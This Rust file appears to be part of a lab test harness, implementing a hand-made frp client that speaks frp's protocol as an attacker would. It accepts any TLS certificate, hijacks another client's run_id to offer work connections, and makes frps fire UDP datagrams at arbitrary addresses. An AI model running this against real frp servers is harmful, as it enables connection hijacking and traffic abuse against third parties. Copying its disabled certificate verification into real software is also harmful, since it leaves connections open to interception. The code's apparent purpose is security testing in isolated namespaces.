//! A hand-made frpc's connection: it speaks frp's first wire protocol over TLS and yamux, as far as an
//! attacker needs it. It logs in with whatever it likes, and it offers work connections under a run_id
//! that another connection has (frp's protocol leaves that to anyone who knows the run_id).

use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context, Result, bail, ensure};
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, DigitallySignedStruct, SignatureScheme};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::{mpsc, oneshot};
use tokio_util::compat::{Compat, FuturesAsyncReadCompatExt, TokioAsyncReadCompatExt};

use crate::lab::Netns;

/// frps answers a Login when its plugin has; nothing here takes longer.
const PATIENCE: Duration = Duration::from_secs(10);
/// The largest message that frps sends.
const MAX_MESSAGE: u64 = 64 * 1024;

/// Types of messages (frp 0.70.1, `pkg/msg/msg.go`).
const LOGIN: u8 = b'o';
const NEW_WORK_CONN: u8 = b'w';
const UDP_PACKET: u8 = b'u';

type Tls = tokio_rustls::client::TlsStream<tokio::net::TcpStream>;
type Mux = yamux::Connection<Compat<Tls>>;
type Stream = Compat<yamux::Stream>;

/// One TCP connection to frps, with as many streams as are asked for.
pub(crate) struct HandMade {
    runtime: tokio::runtime::Runtime,
    address: SocketAddr,
    asks: mpsc::UnboundedSender<oneshot::Sender<yamux::Stream>>,
    ended: Arc<AtomicBool>,
    started: Arc<AtomicUsize>,
}

/// What a work connection does once frps has given it something to carry.
#[derive(Clone, Debug)]
pub(crate) enum Work {
    /// Sends this byte to the user every millisecond.
    Tick(u8),
    /// Has frps send datagrams to each of these, whoever they are, ten times a second.
    Aim(Vec<SocketAddr>),
}

impl HandMade {
    /// Connects from a namespace.
    pub(crate) fn connect(ns: &Netns, to: SocketAddr) -> Result<HandMade> {
        HandMade::over(ns, || {
            TcpStream::connect_timeout(&to, PATIENCE).context("connect to frps")
        })
    }

    /// The same by a connection that is made there in some other way.
    pub(crate) fn over(
        ns: &Netns,
        connect: impl FnOnce() -> Result<TcpStream> + Send,
    ) -> Result<HandMade> {
        let (runtime, tcp) = ns.run(|| {
            let tcp = connect()?;
            tcp.set_nonblocking(true)?;
            tcp.set_nodelay(true)?;
            let mut runtime = tokio::runtime::Builder::new_multi_thread();
            let runtime = runtime.worker_threads(1).enable_all().build()?;
            Ok((runtime, tcp))
        })?;
        let address = tcp.local_addr()?;
        let mux = runtime.block_on(async {
            let tcp = tokio::net::TcpStream::from_std(tcp)?;
            let connector = tokio_rustls::TlsConnector::from(Arc::new(anybody()?));
            let name = ServerName::try_from("frps").context("a name")?;
            let tls = tokio::time::timeout(PATIENCE, connector.connect(name, tcp));
            let tls = tls.await.context("TLS took too long")?.context("TLS")?;
            let config = yamux::Config::default();
            anyhow::Ok(Mux::new(tls.compat(), config, yamux::Mode::Client))
        })?;
        let (asks, queue) = mpsc::unbounded_channel();
        let ended = Arc::new(AtomicBool::new(false));
        let end = Arc::clone(&ended);
        runtime.spawn(async move {
            drive(mux, queue).await;
            end.store(true, Ordering::SeqCst);
        });
        Ok(HandMade {
            runtime,
            address,
            asks,
            ended,
            started: Arc::default(),
        })
    }

    /// Where it comes from.
    pub(crate) const fn address(&self) -> SocketAddr {
        self.address
    }

    /// Whether the connection is gone.
    pub(crate) fn is_over(&self) -> bool {
        self.ended.load(Ordering::SeqCst)
    }

    /// How many of its work connections frps has given something to carry.
    pub(crate) fn started(&self) -> usize {
        self.started.load(Ordering::SeqCst)
    }

    /// Logs in with this body; frps's answer.
    pub(crate) fn login(&self, body: &Value) -> Result<Value> {
        self.runtime.block_on(async {
            let mut stream = open(&self.asks).await?;
            send(&mut stream, LOGIN, body).await?;
            let answer = tokio::time::timeout(PATIENCE, receive(&mut stream));
            let (_, answer) = answer.await.context("frps did not answer")??;
            Ok(answer)
        })
    }

    /// Offers a work connection to the client that has this run_id.
    pub(crate) fn offer(&self, run_id: &str, work: Work) -> Result<()> {
        let (asks, started) = (self.asks.clone(), Arc::clone(&self.started));
        let body = json!({ "run_id": run_id });
        let mut stream = self.runtime.block_on(async {
            let mut stream = open(&asks).await?;
            send(&mut stream, NEW_WORK_CONN, &body).await?;
            anyhow::Ok(stream)
        })?;
        self.runtime.spawn(async move {
            let (_, start) = receive(&mut stream).await?;
            ensure!(start["error"].as_str().unwrap_or_default().is_empty());
            started.fetch_add(1, Ordering::SeqCst);
            carry(&mut stream, work).await
        });
        Ok(())
    }
}

/// Runs the connection: streams that are asked for, and everything that comes.
async fn drive(mut mux: Mux, mut asks: mpsc::UnboundedReceiver<oneshot::Sender<yamux::Stream>>) {
    use std::task::Poll::{Pending, Ready};
    let mut waiting: Option<oneshot::Sender<yamux::Stream>> = None;
    std::future::poll_fn(|cx| {
        loop {
            if waiting.is_none()
                && let Ready(asked) = asks.poll_recv(cx)
            {
                match asked {
                    Some(asked) => waiting = Some(asked),
                    None => return Ready(()),
                }
            }
            if waiting.is_some()
                && let Ready(opened) = mux.poll_new_outbound(cx)
            {
                match (opened, waiting.take()) {
                    (Ok(stream), Some(asked)) => drop(asked.send(stream)),
                    _ => return Ready(()),
                }
                continue;
            }
            match mux.poll_next_inbound(cx) {
                Ready(Some(Ok(_))) => {}
                Ready(_) => return Ready(()),
                Pending => return Pending,
            }
        }
    })
    .await;
}

async fn open(asks: &mpsc::UnboundedSender<oneshot::Sender<yamux::Stream>>) -> Result<Stream> {
    let (ask, stream) = oneshot::channel();
    asks.send(ask).ok().context("the connection is over")?;
    Ok(stream.await.context("the connection is over")?.compat())
}

/// A message: its type, its length, its JSON.
async fn send(stream: &mut Stream, kind: u8, body: &Value) -> Result<()> {
    let body = body.to_string();
    let mut bytes = vec![kind];
    bytes.extend((body.len() as u64).to_be_bytes());
    bytes.extend(body.as_bytes());
    stream.write_all(&bytes).await.context("send a message")?;
    stream.flush().await.context("send a message")
}

async fn receive(stream: &mut Stream) -> Result<(u8, Value)> {
    let kind = stream.read_u8().await.context("receive a message")?;
    let length = stream.read_u64().await.context("receive a message")?;
    ensure!(length <= MAX_MESSAGE, "a message of {length} bytes");
    let mut body = vec![0; length as usize];
    stream
        .read_exact(&mut body)
        .await
        .context("receive a message")?;
    Ok((
        kind,
        serde_json::from_slice(&body).context("read a message")?,
    ))
}

async fn carry(stream: &mut Stream, work: Work) -> Result<()> {
    match work {
        Work::Tick(byte) => loop {
            stream.write_all(&[byte]).await?;
            stream.flush().await?;
            tokio::time::sleep(Duration::from_millis(1)).await;
        },
        Work::Aim(targets) => loop {
            for target in &targets {
                let to =
                    json!({ "IP": target.ip().to_string(), "Port": target.port(), "Zone": "" });
                // "aimed", in base64, as Go writes bytes.
                send(stream, UDP_PACKET, &json!({ "c": "YWltZWQ=", "r": to })).await?;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        },
    }
}

/// TLS with whoever answers: an attacker does not care.
fn anybody() -> Result<ClientConfig> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .context("TLS versions")?;
    let config = config.dangerous();
    let config = config.with_custom_certificate_verifier(Arc::new(Anybody));
    Ok(config.with_no_client_auth())
}

#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        rustls::crypto::ring::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}

/// The run_id in a line of frpc's log.
pub(crate) fn run_id(line: &str) -> Result<String> {
    let Some((_, rest)) = line.split_once("get run id [") else {
        bail!("no run id in {line:?}");
    };
    let (run_id, _) = rest.split_once(']').context("the line ends too soon")?;
    Ok(run_id.to_owned())
}
